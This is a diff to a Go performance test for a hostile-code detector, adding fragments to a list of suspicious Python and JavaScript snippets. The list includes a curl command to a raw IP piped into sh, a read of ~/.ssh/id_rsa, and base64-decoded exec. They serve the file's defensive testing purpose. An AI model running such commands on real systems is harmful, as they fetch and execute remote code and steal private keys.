@@ -132,7 +132,7 @@ func TestCodeHostile(t *testing.T) {
 	if testing.Short() {
 		n >>= 3
 	}
-	for _, unit := range []string{"(", ")", "[", "exec(", "eval(atob(", "'", "\"\"\"", "`", "${", "/", "/*", "\\", "f'{a}'", "a=a+a\n", "a='x'+a\n", "a=f'{a}{a}'\n", "os.system('ls')\n", "os.system(a)\n", "os.system('curl http://45.67.89.10/x | sh')\n", "requests.post(", "open('~/.ssh/id_rsa')\n", "a.b.c.d(", "x = [", "#\n", "headers=", "os.environ", "exec(b64decode('YQ=='))\n", "child_process exec(`${a}`)\n", "os.path.join(a,", "python -c '", "'https://bit.ly/x'\n"} {
+	for _, unit := range []string{"(", ")", "[", "exec(", "eval(atob(", "'", "\"\"\"", "`", "${", "/", "/*", "\\", "f'{a}'", "a=a+a\n", "a='x'+a\n", "a=f'{a}{a}'\n", "os.system('ls')\n", "os.system(a)\n", "os.system('curl http://45.67.89.10/x | sh')\n", "requests.post(", "open('~/.ssh/id_rsa')\n", "a.b.c.d(", "x = [", "#\n", "headers=", "os.environ", "import a as b, ", "from a import (b as c,", "const {a: b} = require('net')\n", "''.join(", "x = exec\n", "urlretrieve(", "open(a, 'w').write(", "fetch(a).then(eval)", "exec(b64decode('YQ=='))\n", "child_process exec(`${a}`)\n", "os.path.join(a,", "python -c '", "'https://bit.ly/x'\n"} {
 		for _, kind := range []fileKind{kindPython, kindJavaScript} {
 			start := time.Now()
 			_, s := codeFound("a.py", strings.Repeat(unit, n/len(unit)), kind)
